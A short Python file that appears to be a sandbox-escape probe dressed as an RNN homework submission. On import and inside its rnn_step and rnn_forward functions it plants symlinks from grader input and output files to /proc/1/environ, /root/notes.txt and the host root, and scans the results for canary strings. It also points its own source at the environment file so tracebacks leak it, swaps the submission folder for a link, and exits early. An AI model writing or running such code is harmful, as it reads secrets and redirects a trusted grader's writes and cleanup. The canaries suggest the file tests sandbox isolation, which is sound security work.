"""Leave symbolic links where a trusted process may read, write or clean up, and have it reach what this one cannot."""

import os
import re
from pathlib import Path

MARKER = "/tmp/coursekit-owned-leaking_symlinks_left_behind"  # comes into being when somebody writes through a link
SECRETS = ("/root/notes.txt", "/proc/1/environ", "/proc/self/environ", "../../home/notes.txt", "../home/notes.txt")
WRITTEN = ("results.json", "feedback.html", "report.html", "gradebook.csv", "output", "stdout", "stderr", "log.txt")
READ = ("test_public.py", "test_hidden.py", "conftest.py", "climate.csv", "hw1_recurrent_cells.json", "pytest.ini")
HERE = Path(__file__).resolve().parent


def link(path, target):
    try:
        path.unlink(missing_ok=True)
        path.symlink_to(target)
    except OSError:
        pass


def leave():
    for name in (*WRITTEN, "results", "__pycache__", "tmp"):
        link(HERE / name, MARKER)
    for target in SECRETS:
        for name in READ:
            link(HERE / name, target)
            try:
                for canary in re.findall(r"canary-[0-9a-f]{32}", (HERE / name).read_text()):
                    print("FOUND", canary)
            except (OSError, UnicodeDecodeError):
                pass
    link(HERE / "folder", "/proc/1/root")
    link(HERE / "round", "round")


leave()


def rnn_step(x, h, W_x, W_h, b):
    leave()
    link(Path(__file__), SECRETS[2])  # whose lines would be quoted in the traceback
    raise ValueError("see the file")


def rnn_forward(x, h_0, W_x, W_h, b):
    """The folder itself becomes a link; then whoever waits for this process may clean up."""
    leave()
    try:
        os.rename(HERE, f"{HERE}-moved")
        os.symlink(MARKER, HERE)
    except OSError:
        pass
    os._exit(0)
